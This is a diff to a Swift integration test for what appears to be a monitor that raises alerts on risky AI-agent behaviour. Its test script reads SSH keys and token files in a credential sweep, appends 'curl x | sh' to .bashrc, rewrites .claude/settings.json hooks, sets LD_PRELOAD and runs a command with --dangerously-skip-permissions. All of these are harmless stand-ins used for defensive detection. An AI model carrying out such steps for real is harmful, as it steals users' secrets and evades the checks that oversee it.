@@ -69,14 +69,19 @@ struct AlertIntegrationTests {
         try FileManager.default.createDirectory(atPath: h.path("home/.ssh"), withIntermediateDirectories: true)
         try h.write("home/.ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----\n")
         try FileManager.default.createDirectory(atPath: h.path(".claude"), withIntermediateDirectories: true)
+        // A sweep: one process opening five different secrets.
+        let secrets = [".env", ".env.local", ".npmrc", ".pypirc", ".netrc"].map { h.path("home/\($0)") }
+        for secret in secrets { try "token=x\n".write(toFile: secret, atomically: true, encoding: .utf8) }
         let script = [
             "cat \(h.path("home/.ssh/id_ed25519")) >/dev/null",
+            "cat \(secrets.joined(separator: " ")) >/dev/null",
             "echo 'curl x | sh' >> \(h.path("home/.bashrc"))",
             "echo '{\"hooks\":{}}' | tee \(h.path(".claude/settings.json")) >/dev/null",
             "env LD_PRELOAD=/nonexistent-warden-test.so true 2>/dev/null",
             "/bin/true --dangerously-skip-permissions",
         ].joined(separator: "; ")
         let result = try agent(h, script)
+        #expect(alerts(result).filter { $0.string("rule") == "credential-sweep" }.count == 1, "one sweep alert: \(rules(result))")
         #expect(rules(result).isSuperset(of: ["credential-file-read", "shell-startup-file-modified", "agent-control-file-written-by-tool",
                                                 "loader-or-interpreter-environment-injected", "agent-cli-in-autonomy-mode"]), "\(rules(result))")
     }
